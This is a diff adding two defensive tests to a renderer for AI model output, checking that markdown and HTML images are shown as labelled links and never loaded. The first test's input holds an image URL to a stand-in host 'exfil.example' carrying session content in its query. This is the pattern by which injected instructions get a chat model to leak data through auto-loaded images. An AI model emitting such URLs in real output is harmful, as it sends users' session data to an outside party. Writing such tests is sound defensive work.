@@ -19,3 +19,26 @@ test("model output cannot inject HTML or script", () => {
   expect(html).not.toContain("<script");
   expect(html).not.toContain("javascript:");
 });
+
+test("images in model output are never loaded: a link says where they go", () => {
+  const html = render(
+    '![secret](https://exfil.example/c?q=session-content) ![](/api/sessions) ![x](data:image/png;base64,AAAA) <img src="https://exfil.example/raw">',
+  );
+  expect(html).not.toContain("<img");
+  expect(html).toContain('href="https://exfil.example/c?q=session-content"');
+  expect(html).toContain("Image “secret”, not loaded: open from exfil.example");
+  expect(html).toContain('rel="noreferrer noopener"');
+  expect(html).toContain("open from this app");
+  expect(html).toContain("(removed: not a web address)");
+});
+
+test("reference-style and linked images are links too", () => {
+  const html = render(
+    "[![badge](https://img.example/b.svg)](https://site.example)\n\n![ref][r]\n\n[r]: http://ref.example/i.png",
+  );
+  expect(html).not.toContain("<img");
+  expect(html).toContain('href="https://site.example"');
+  expect(html).toContain("Image “badge”, not loaded (from img.example)");
+  expect(html).not.toMatch(/<a[^>]*>(?:(?!<\/a>).)*<a/s); // no link inside a link
+  expect(html).toContain("open from ref.example");
+});
